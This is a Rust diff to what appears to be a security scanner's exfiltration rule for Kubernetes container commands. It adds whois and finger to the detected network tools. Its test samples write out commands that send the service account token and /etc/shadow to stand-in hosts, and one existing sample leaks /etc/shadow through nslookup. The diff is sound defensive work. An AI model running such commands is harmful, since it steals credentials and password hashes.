@@ -73,6 +73,17 @@ pub(super) static RULES: &[Rule] = &[
             ),
             Sample::Hit(
                 40,
+                "containers: [{name: a, command: [sh, -c, 'whois -h 192.0.2.60 -p 43 \"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\"']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'finger \"$(base64 /etc/shadow)@203.0.113.5\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'whois -h whois.example.test \"$(cat /cfg/domain)\"']}]",
+            ),
+            Sample::Hit(
+                40,
                 "containers: [{name: a, command: [sh, -c, 'for c in $(xxd -p /etc/shadow); do nslookup $c.x.example.test; done']}]",
             ),
             Sample::Hit(
@@ -224,7 +235,10 @@ fn exfiltrates(facts: &Facts<'_>, found: &mut Collector<'_>) {
 fn may_send(invocation: &Invocation) -> bool {
     is_downloader(invocation)
         || is_netcat(&invocation.program)
-        || matches!(invocation.program.as_str(), "nslookup" | "dig" | "host" | "ping" | "openssl" | "telnet")
+        || matches!(
+            invocation.program.as_str(),
+            "nslookup" | "dig" | "host" | "ping" | "openssl" | "telnet" | "whois" | "finger"
+        )
         || code::text(invocation).is_some_and(code::fetches)
         || invocation.redirects.iter().any(|redirect| redirect.target.text.starts_with("/dev/tcp/"))
         || uploads_with_tool(invocation)
@@ -250,6 +264,13 @@ fn weigh(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weight>
     }
     match invocation.program.as_str() {
         "nslookup" | "dig" | "host" | "ping" => by_name(run, invocation, secret),
+        // The question is free text, and the server is anybody's: `whois -h HOST TEXT`, `finger TEXT@HOST`.
+        "whois" | "finger" => {
+            let named = option(invocation, &["-h", "--host"]);
+            let at = || words(invocation).find_map(|word| word.rsplit_once('@')).map(|(_, host)| host);
+            let reach = target(named.or_else(at)?)?.reach();
+            weigh_reach(reach, secret, false)
+        }
         program if is_netcat(program) || matches!(program, "telnet" | "openssl") => {
             if only_probes(invocation) {
                 return None;
